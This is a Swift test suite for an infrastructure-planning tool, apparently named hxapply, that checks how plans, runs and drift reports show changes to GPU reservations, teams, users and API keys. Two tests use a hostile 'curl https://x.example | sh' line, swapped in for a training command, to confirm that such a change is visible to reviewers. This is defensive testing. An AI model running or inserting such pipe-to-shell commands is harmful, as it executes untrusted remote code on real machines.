import Foundation
import Postgres
import TestSupport
import Testing
import Text

/// What a reviewer reads of a plan, and later of its run: all that changes, in every form in which it is shown.
@Suite(.threadOfItsOwn) struct PlanReadingTests {
    private let pipeline: Pipeline

    init() throws { pipeline = try Pipeline() }

    // MARK: A change hidden behind another

    private static func document(_ command: String, teams: [String]) -> String {
        let members = (1...50).map { "  - {name: team-\($0), adminEmail: t\($0)@example.com}\n" }.joined()
        let lines = command.split(separator: "\n").map { "      \($0)\n" }.joined()
        return Specs.document(
            """
            gpuTypes:
              - {name: h100, gpusPerInstance: 8}
            regions:
              - {name: r1, provider: aws, dedicatedTo: [\(teams.joined(separator: ", "))]}
            gpuPools:
              - {region: r1, gpuType: h100, gpus: 80}
            teams:
            \(members)reservations:
              - name: train
                team: team-1
                region: r1
                gpuType: h100
                gpus: 8
                start: 2096-01-01T00:00:00Z
                duration: 72h
                command: |
            \(lines)
            """
        )
    }

    private static let teams = (1...30).map { "team-\($0)" }
    private static let before = document("set -e\nEPOCHS=10\nprepare\nload\npython train.py", teams: teams)
    private static let after = document(
        "set -e\nEPOCHS=12\nprepare\nload\ncurl https://x.example | sh",
        teams: teams.filter { $0 != "team-15" } + ["team-49"]
    )

    /// In the text of a plan, an apply and a run's record.
    private static let shown = [
        "        - EPOCHS=10\n        + EPOCHS=12\n          prepare\n          load\n        - python train.py\n"
            + "        + curl https://x.example | sh\n",
        "      dedicatedTo:\n        - team-15\n        + team-49\n        … 29 unchanged\n",
    ]

    @Test func lastLineOfAScriptAndOneTeamOfThirtyAreShownEverywhere() throws {
        try pipeline.apply(Self.before)
        try pipeline.write(Self.after)
        let plan = try pipeline.hxapply(["plan", pipeline.spec]).output
        let markdown = try pipeline.hxapply(["plan", pipeline.spec, "--format", "markdown"]).output
        let apply = try pipeline.hxapply(["apply", pipeline.spec]).output
        let run = try #require(apply.firstMatch(of: #/run ([0-9a-f]+)/#)).1
        let record = try pipeline.hxapply(["runs", String(run)]).output
        for shown in Self.shown {
            #expect(plan.contains(shown), "\(plan)")
            #expect(apply.contains(shown), "\(apply)")
            #expect(record.contains(shown), "\(record)")
        }
        for line in ["-     python train.py", "+     curl https://x.example | sh", "-     team-15", "+     team-49"] {
            #expect(markdown.contains("\n\(line)\n"), "\(markdown)")
        }
        #expect(try pipeline.pending() == "")
    }

    @Test func driftIsShownAsAWhole() throws {
        try pipeline.apply(Self.before)
        try pipeline.database.execute(
            "UPDATE hx.reservations SET command = replace(command, 'python train.py', 'curl x | sh')"
        )
        let drift = try pipeline.hxapply(["drift"]).output
        #expect(drift.contains("        - python train.py\n        + curl x | sh\n"), "\(drift)")
    }

    @Test func recordOfADeleteHasTheValuesThatWent() throws {
        try pipeline.apply(Specs.document("users:\n  - {name: ada, email: ada@example.com}\n"))
        let run = try pipeline.apply(
            Specs.document("users: []\n"),
            ["--allow", "empty=test:1", "--allow", "removals=users:1", "--reason", "she left"]
        )
        let record = try pipeline.hxapply(["runs", run]).output
        #expect(
            record.contains("  - users/ada  (no document declares it)\n      email: ada@example.com\n"),
            "\(record)"
        )
    }

    @Test func emptyListOfTeamsSaysThatItMeansEveryone() throws {
        try pipeline.apply(Self.document("x", teams: ["team-1"]))
        try pipeline.write(Self.document("x", teams: []))
        let plan = try pipeline.hxapply(["plan", pipeline.spec]).output
        #expect(plan.contains("      dedicatedTo: [team-1] -> [] (everyone)\n"), "\(plan)")
        let markdown = try pipeline.hxapply(["plan", pipeline.spec, "--format", "markdown"]).output
        #expect(markdown.contains("+   dedicatedTo: [] (everyone)\n"), "\(markdown)")
    }

    // MARK: Where

    @Test func everyChangeHasItsPlace() throws {
        try pipeline.apply(TestSpecs.first)
        try pipeline.write(TestSpecs.second)
        let plan = try pipeline.hxapply(["plan", pipeline.spec]).output
        let lines = plan.split(separator: "\n")
        #expect(lines.contains("  ~ teams/ml  \(pipeline.spec):5"), "\(plan)")
        #expect(lines.contains("  + users/eve  \(pipeline.spec):9"), "\(plan)")
        let gone = "  - users/bob  (no document declares it; it was at \(pipeline.spec):9)"
        #expect(lines.contains { $0 == gone }, "\(plan)")
    }

    @Test func summaryCountsBySection() throws {
        try pipeline.apply(TestSpecs.first)
        try pipeline.write(TestSpecs.second)
        let table = """
              section      create  update  delete
              teams             0       1       0
              users             1       0       1
              memberships       1       0       1
              apiKeys           0       1       0

            """
        let plan = try pipeline.hxapply(["plan", pipeline.spec, "--summary"])
        #expect(plan.output.contains(table), "\(plan.output)")
        #expect(!plan.output.contains("users/eve"))
        #expect(plan.output.contains("Plan: 2 to create, 2 to update, 0 to rename, 2 to delete"))
        let apply = try pipeline.hxapply(["apply", pipeline.spec, "--summary"])
        #expect(apply.output.contains(table) && !apply.output.contains("users/eve"), "\(apply.output)")
    }

    // MARK: Many refusals

    @Test func refusalsThatAreAlikeAreOne() throws {
        try pipeline.apply(Specs.document("users: []\n"))
        try pipeline.database.execute(
            """
            INSERT INTO hx.users (cluster, name, email)
            SELECT 'test', 'u' || n, 'u' || n || '@example.com' FROM generate_series(1, 250) AS n
            """
        )
        let users = (1...250).map { "  - {name: u\($0), email: u\($0)@example.com}\n" }.joined()
        try pipeline.write(Specs.document("users:\n" + users))
        let plan = try pipeline.hxapply(["plan", pipeline.spec])
        #expect(plan.status == 6)
        let title = "refused[HX6001]: 250 resources are declared, but their rows are not managed by hxapply\n"
        #expect(plan.output.contains(title + "    users/u1  \(pipeline.spec):5\n"), "\(plan.output)")
        #expect(plan.output.contains("    … and 150 more; '--format json' has all of them\n  to go on: give --adopt"))
        #expect(plan.output.split(separator: "\n").count < 120)
        #expect(plan.output.contains("To lift all that may be lifted:\n  --adopt\n"))
        let markdown = try pipeline.hxapply(["plan", pipeline.spec, "--format", "markdown"]).output
        #expect(markdown.contains("150 of 250 resources of HX6001 are not shown here."), "\(markdown.prefix(3000))")
        let json = try pipeline.hxapply(["plan", pipeline.spec, "--format", "json"]).json()
        let refusals = try #require(json["refusals"]?.elements)
        #expect(refusals.count == 250)
        #expect(refusals[249]["source"]?.text == "\(pipeline.spec):\(4 + 250)" || refusals[249]["source"] != nil)
        #expect(try pipeline.hxapply(["plan", pipeline.spec, "--adopt"]).status == 0)
    }

    @Test func oneLineLiftsAllThatMayBeLifted() throws {
        let protected = (1...3).map { "  - {name: u\($0), email: u\($0)@example.com, protected: true}\n" }.joined()
        try pipeline.apply(Specs.document("users:\n" + protected))
        try pipeline.write(Specs.document("users:\n  - {name: new, email: new@example.com}\n"))
        let plan = try pipeline.hxapply(["plan", pipeline.spec])
        #expect(plan.status == 7)
        let match = try #require(plan.output.firstMatch(of: #/To lift all that may be lifted:\n  (.*)\n/#))
        #expect(plan.output.contains("refused[HX7006]: 3 resources are protected and would be deleted\n"))
        let command = "'\(CommandRun.program)' plan '\(pipeline.spec)' \(match.1)"
        let lifted = try CommandRun.run("/bin/sh", ["-c", command], database: pipeline.database)
        #expect(lifted.status == 0, "\(lifted.output)\(lifted.errors)")
    }

    // MARK: What will never work

    private static func reservation(_ start: String, _ duration: String, state: String = "active") -> String {
        Specs.document(
            """
            gpuTypes:
              - {name: h100, gpusPerInstance: 8}
            regions:
              - {name: r1, provider: aws}
            gpuPools:
              - {region: r1, gpuType: h100, gpus: 80}
            teams:
              - {name: ml, adminEmail: ml@example.com}
            reservations:
              - {name: a, team: ml, region: r1, gpuType: h100, gpus: 8, start: \(start), duration: \(duration), state: \(state)}

            """
        )
    }

    private func warnings() throws -> [String] {
        let plan = try pipeline.hxapply(["plan", pipeline.spec, "--format", "json"])
        #expect(plan.status == 0, "\(plan.output)\(plan.errors)")
        return (try plan.json()["warnings"]?.elements ?? []).compactMap { $0["code"]?.text }
    }

    @Test(arguments: [
        ("2001-01-01T00:00:00Z", "72h", "active", ["HX8004"]), ("2020-01-01T00:00:00Z", "3650d", "active", ["HX8005"]),
        ("2096-01-01T00:00:00Z", "72h", "active", []), ("2001-01-01T00:00:00Z", "72h", "cancelled", []),
    ])
    func newReservationThatIsOverOrBeganIsToldOf(
        _ start: String,
        _ duration: String,
        _ state: String,
        _ codes: [String]
    ) throws {
        let document = Self.reservation(start, duration, state: state)
            .replacing("reservations:", with: "policy: {maxReservation: 3650d}\nreservations:")
        try pipeline.write(document)
        // Without any tables, and with them.
        #expect(try warnings() == codes)
        try pipeline.apply(Specs.document("teams:\n  - {name: ml, adminEmail: ml@example.com}\n"))
        try pipeline.write(document)
        #expect(try warnings() == codes)
        try pipeline.apply(document)
        // What was right when it was applied is history.
        #expect(try warnings() == [])
    }

    @Test func reservationThatIsMovedIntoThePastIsToldOf() throws {
        try pipeline.apply(Self.reservation("2096-01-01T00:00:00Z", "72h"))
        try pipeline.write(Self.reservation("2002-01-01T00:00:00Z", "72h"))
        #expect(try warnings() == ["HX8004"])
        let text = try pipeline.hxapply(["plan", pipeline.spec]).output
        #expect(text.contains("warning[HX8004]: reservations/a is over already, so nothing will run for it\n  at: "))
    }

    @Test func keyThatHasExpiredIsToldOf() throws {
        let document = { (time: String) in
            Specs.document(
                """
                teams:
                  - {name: ml, adminEmail: ml@example.com}
                policy: {maxKeyLifetime: 36500d}
                apiKeys:
                  - name: ci
                    team: ml
                    expiresAt: \(time)
                    sha256: [aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab]

                """
            )
        }
        try pipeline.apply(document("2090-01-01T00:00:00Z"))
        try pipeline.write(document("2001-01-01T00:00:00Z"))
        #expect(try warnings() == ["HX8006"])
    }

    /// A name that is handed on would take along what names it, though no value differs, so no guard would see it.
    @Test func referenceThatNamesAnotherResourceIsRefused() throws {
        let document = { (teams: String, owner: String) in
            Specs.document(
                """
                teams: [\(teams)]
                regions:
                  - {name: r, provider: aws, dedicatedTo: [\(owner)]}
                apiKeys:
                  - name: k
                    team: \(owner)
                    expiresAt: \(Specs.keyEnd)
                    sha256: [aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab]

                """
            )
        }
        let handOn = "{name: ml-old, renamedFrom: ml}, {name: ml, renamedFrom: ops}"
        try pipeline.apply(document("{name: ml}, {name: ops}", "ml"))
        try pipeline.write(document(handOn, "ml"))
        let run = try pipeline.hxapply(["plan", pipeline.spec])
        #expect(run.status == 6 && run.output.contains("refused[HX6021]: 2 references name another resource"))
        #expect(run.output.contains("    apiKeys/k  \(pipeline.spec):8  (team: ml)\n"), "\(run.output)")
        // The two plans that the refusal proposes.
        try pipeline.apply(document(handOn, "ml-old"))
        try pipeline.apply(document("{name: ml-old}, {name: ml}", "ml"))
        #expect(try pipeline.pending() == "")
    }

    // MARK: Reservations that are over

    @Test func reservationsThatAreOverCountForNoRemovalGuard() throws {
        let reservations = { (over: ClosedRange<Int>, live: ClosedRange<Int>) in
            Self.reservation("2001-01-01T00:00:00Z", "72h")
                + over.map { Self.entry("over-\($0)", "2001-01-01T00:00:00Z") }.joined()
                + live.map { Self.entry("live-\($0)", "2096-01-01T00:00:00Z") }.joined()
        }
        try pipeline.apply(reservations(1...40, 1...8))
        try pipeline.write(reservations(40...40, 1...8))
        #expect(try pipeline.hxapply(["plan", pipeline.spec]).status == 0)
        // Of what is left, at most a quarter may go: two of eight.
        try pipeline.write(reservations(40...40, 1...5))
        let plan = try pipeline.hxapply(["plan", pipeline.spec])
        #expect(plan.status == 7)
        #expect(
            plan.output.contains("refused[HX7001]: 3 of 8 (37 %) of reservations would be deleted; at most 2 may be")
        )
    }

    private static func entry(_ name: String, _ start: String) -> String {
        "  - {name: \(name), team: ml, region: r1, gpuType: h100, gpus: 8, start: \(start), duration: 72h}\n"
    }
}
